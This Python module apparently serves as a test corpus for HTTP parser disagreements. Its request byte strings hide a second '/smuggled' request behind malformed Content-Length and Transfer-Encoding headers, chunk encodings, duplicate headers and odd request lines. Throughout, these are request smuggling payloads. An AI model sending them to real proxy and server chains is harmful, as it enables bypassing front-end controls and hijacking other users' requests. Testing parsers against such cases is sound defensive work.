"""Requests that two readers may read differently, each with something behind its front that must stay hidden.

`@` in a request stands for its path. The hidden request is /smuggled: one reader may take it for a body, or for a part
of one, and another for a request.
"""

from __future__ import annotations

HIDDEN = b"GET /smuggled HTTP/1.1\r\nHost: h\r\n\r\n"
SIZE = b"%d" % len(HIDDEN)
CHUNK = b"%x\r\n%b\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN)  # hidden from who reads chunks
AFTER = b"0\r\n\r\n" + HIDDEN  # hidden from who reads a length
EMPTY = b"0\r\n\r\n"


def post(*fields: bytes, body: bytes = b"", version: bytes = b"1.1") -> bytes:
    """A POST with these fields."""
    lines = b"".join(field + b"\r\n" for field in fields)
    return b"POST @ HTTP/" + version + b"\r\nHost: h\r\n" + lines + b"\r\n" + body


def length(value: bytes) -> bytes:
    """A Content-Length that says the size of the hidden request, spelled oddly (`%`), in front of it."""
    return post(b"Content-Length:" + value.replace(b"%", SIZE), body=HIDDEN)


def coding(value: bytes, name: bytes = b"Transfer-Encoding: ") -> list[bytes]:
    """A Transfer-Encoding, spelled oddly, beside a length or not, with the request hidden in one way and the other."""
    field = name + value
    return [
        post(field, b"Content-Length: %d" % len(AFTER), body=AFTER),
        post(b"Content-Length: 4", field, body=CHUNK),
        post(field, body=CHUNK),
    ]


def chunked(body: bytes) -> bytes:
    return post(b"Transfer-Encoding: chunked", body=body)


PLAIN = [
    b"GET @ HTTP/1.1\r\nHost: h\r\n\r\n",
    post(b"Content-Length: " + SIZE, body=HIDDEN),
    chunked(CHUNK),
    chunked(b"5;a=b\r\nhello\r\n0\r\nA: b\r\n\r\n"),
]
LENGTHS = [
    length(b" " + value)
    for value in (
        b"+%",
        b"-%",
        b"%, %",
        b"%,",
        b"0, %",
        b"%, 0",
        b"0x%",
        b"0%",
        b"%.0",
        b"%;",
        b"% 0",
        b"%e0",
        b"%_0",
        b'"%"',
        b"\xa0%",
        b"\x0b%",
        b"%\x00",
        b"%\r",
        b"\r\n %",
        b"",
        b"x",
        b"18446744073709551616",
        b"18446744073709551651",
        b"\t%\t",
    )
]
CODINGS = [
    request
    for value in (
        b"chunked",
        b"xchunked",
        b"chunkedx",
        b"chunked, identity",
        b"identity, chunked",
        b"identity",
        b"gzip, chunked",
        b"chunked, chunked",
        b"chunked,",
        b",chunked",
        b"CHUNKED",
        b"\tchunked",
        b"\x0bchunked",
        b"chunked\x0b",
        b"chunked\x0c",
        b"chunked\xa0",
        b"chunked\x00",
        b"chunked\r",
        b'"chunked"',
        b"chunked;q=1",
        b"\r\n chunked",
        b"chun\r\n ked",
        b"",
    )
    for request in coding(value)
]
NAMES = [
    request
    for name in (
        b"Transfer-Encoding : ",
        b"Transfer-Encoding\t: ",
        b" Transfer-Encoding: ",
        b"Transfer_Encoding: ",
        b"Transfer-Encoding\x0b: ",
        b"Transfer-Encoding\x00: ",
        b"Transfer-Encoding",
        b"X: a\nTransfer-Encoding: ",
        b"X: a\rTransfer-Encoding: ",
        b"X: a\r\r\nTransfer-Encoding: ",
        b"Transfer-Encoding: identity\r\nTransfer-Encoding: ",
        b"Transfer-Encoding: gzip\r\nTransfer-Encoding: ",
        b"Content-Length: 0\r\nTransfer-Encoding: ",
    )
    for request in coding(b"chunked", name)
]
DOUBLE = [
    post(b"Content-Length: " + first, between + b": " + second, body=HIDDEN)
    for between in (
        b"Content-Length",
        b"content-length ",
        b"Content_Length",
        b"X: y\nContent-Length",
        b" Content-Length",
    )
    for first, second in ((SIZE, b"0"), (b"0", SIZE), (SIZE, SIZE))
]
CHUNKS = [
    chunked(body)
    for body in (
        b"0" * 20 + CHUNK,
        b"+" + CHUNK,
        b"-" + CHUNK,
        b"0x" + CHUNK,
        b" " + CHUNK,
        b"1" + b"0" * 16 + b"\r\n" + AFTER,
        b"ffffffffffffffff\r\n" + AFTER,
        b"10000000000000000" + CHUNK,
        b"0\n\r\n" + HIDDEN,
        b"0\r\n\n" + HIDDEN,
        b"0\n\n" + HIDDEN,
        b"5\nhello\r\n" + AFTER,
        b"5\r\nhello\n" + AFTER,
        b"5\r\nhello" + AFTER,
        b"5\r\nhelloworld\r\n" + AFTER,
        b"5\rhello\r" + AFTER,
        b"2;\n0a\r\n" + AFTER,
        b"2;a\nxx\r\nhello\r\n" + AFTER,
        b"5 \r\nhello\r\n" + AFTER,
        b"5;\r\nhello\r\n" + AFTER,
        b'5;a="\r\n"\r\nhello\r\n' + AFTER,
        b"5;a=b\x00\r\nhello\r\n" + AFTER,
        b"5_0\r\nhello\r\n" + AFTER,
        b"\r\n" + AFTER,
        b"g\r\n" + AFTER,
        b"0\r\nContent-Length: " + SIZE + b"\r\n\r\n" + HIDDEN,
        b"0\r\nTransfer-Encoding: chunked\r\n\r\n" + CHUNK,
        b"0\r\nHost: other\r\n\r\n",
        b"0\r\nA: b\n\r\n" + HIDDEN,
        b"0\r\nA\r\n\r\n" + HIDDEN,
        b"0\r\n" + HIDDEN,
    )
]
HOP_BY_HOP = [
    post(b"Content-Length: " + SIZE, b"Connection: " + value, body=HIDDEN)
    for value in (b"Content-Length", b"keep-alive, Content-Length", b"Host", b"close, Content-Length")
] + [
    post(b"Transfer-Encoding: chunked", b"Connection: Transfer-Encoding", body=CHUNK),
    post(b"Transfer-Encoding: chunked", b"Connection: keep-alive, transfer-encoding", b"TE: trailers", body=CHUNK),
]
BODIES = [
    b"GET @ HTTP/1.1\r\nHost: h\r\nContent-Length: " + SIZE + b"\r\n\r\n" + HIDDEN,
    b"GET @ HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n" + CHUNK,
    b"HEAD @ HTTP/1.1\r\nHost: h\r\nContent-Length: " + SIZE + b"\r\n\r\n" + HIDDEN,
    b"DELETE @ HTTP/1.1\r\nHost: h\r\nContent-Length: " + SIZE + b"\r\n\r\n" + HIDDEN,
    b"get @ HTTP/1.1\r\nHost: h\r\n\r\n",
    b"post @ HTTP/1.1\r\nHost: h\r\nContent-Length: " + SIZE + b"\r\n\r\n" + HIDDEN,
    post(b"Expect: 100-continue", b"Content-Length: " + SIZE, body=HIDDEN),
    post(b"Expect: 100-continue", b"Transfer-Encoding: chunked", body=CHUNK),
    post(b"Expect: 200-ok", b"Content-Length: " + SIZE, body=HIDDEN),
    post(b"Upgrade: h2c", b"Connection: Upgrade, HTTP2-Settings", b"HTTP2-Settings: AA", body=b""),
    post(b"Upgrade: websocket", b"Connection: Upgrade", b"Content-Length: " + SIZE, body=HIDDEN),
]
VERSIONS = [
    post(b"Transfer-Encoding: chunked", body=CHUNK, version=b"1.0"),
    post(b"Transfer-Encoding: chunked", b"Content-Length: 4", body=CHUNK, version=b"1.0"),
    post(b"Transfer-Encoding: chunked", b"Connection: keep-alive", body=AFTER, version=b"1.0"),
    post(b"Content-Length: " + SIZE, b"Connection: keep-alive", body=HIDDEN, version=b"1.0"),
    post(b"Content-Length: " + SIZE, body=HIDDEN, version=b"1.2"),
    post(b"Content-Length: " + SIZE, body=HIDDEN, version=b"0.9"),
    post(b"Content-Length: " + SIZE, body=HIDDEN, version=b"2.0"),
    b"GET @\r\n" + HIDDEN,
    b"GET @\r\n\r\n" + HIDDEN,
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + HIDDEN,
]
TARGETS = [
    b"GET http://h@ HTTP/1.1\r\nHost: h\r\n\r\n",
    b"GET http://other@ HTTP/1.1\r\nHost: h\r\n\r\n",
    b"GET https://h@ HTTP/1.1\r\nHost: h\r\n\r\n",
    b"GET @ HTTP/1.1\r\nHost: h\r\nHost: other\r\n\r\n",
    b"GET @ HTTP/1.1\r\nHost: h\r\nHost : other\r\n\r\n",
    b"GET @ HTTP/1.1\r\nHost: h, other\r\n\r\n",
    b"GET @ HTTP/1.1\r\nHost: h other\r\n\r\n",
    b"GET @ HTTP/1.1\r\n\r\n",
    b"GET @/../..//x%2f?a#b HTTP/1.1\r\nHost: h\r\n\r\n",
    b"GET @ HTTP/1.1 HTTP/1.1\r\nHost: h\r\n\r\n",
    b"GET @ HTTP/1.1\nHost: h\n\n",
    b"GET\t@\tHTTP/1.1\r\nHost: h\r\n\r\n",
    b"GET  @  HTTP/1.1\r\nHost: h\r\n\r\n",
    b"GET @\x00 HTTP/1.1\r\nHost: h\r\n\r\n",
    b"GET @\xe9 HTTP/1.1\r\nHost: h\r\n\r\n",
    b"\r\nGET @ HTTP/1.1\r\nHost: h\r\n\r\n",
    b"\r\n\r\n\r\nGET @ HTTP/1.1\r\nHost: h\r\n\r\n",
    b"\nGET @ HTTP/1.1\r\nHost: h\r\n\r\n",
    b"GET @ HTTP/1.1\r\nHost: h\r\nX: y\r\n z\r\n\r\n",
    b"GET @ HTTP/1.1\r\n X: y\r\nHost: h\r\n\r\n",
    b"GET @ HTTP/1.1\r\nHost: h\r\nX: a\x00b\r\n\r\n",
    b"GET @ HTTP/1.1\r\nHost: h\r\n: y\r\n\r\n",
    b"GET @ HTTP/1.1\r\nHost: h\r\nX\r\n\r\n",
    b"GET @ HTTP/1.1\r\nHost: h\r\n\r\n\r\n\r\n",
    post(b"Content-Length: 5", body=b"hello\r\n"),
    post(b"Content-Length: 5", body=b"hello\r\n\r\n"),
]
CASES = [*PLAIN, *LENGTHS, *CODINGS, *NAMES, *DOUBLE, *CHUNKS, *HOP_BY_HOP, *BODIES, *VERSIONS, *TARGETS]
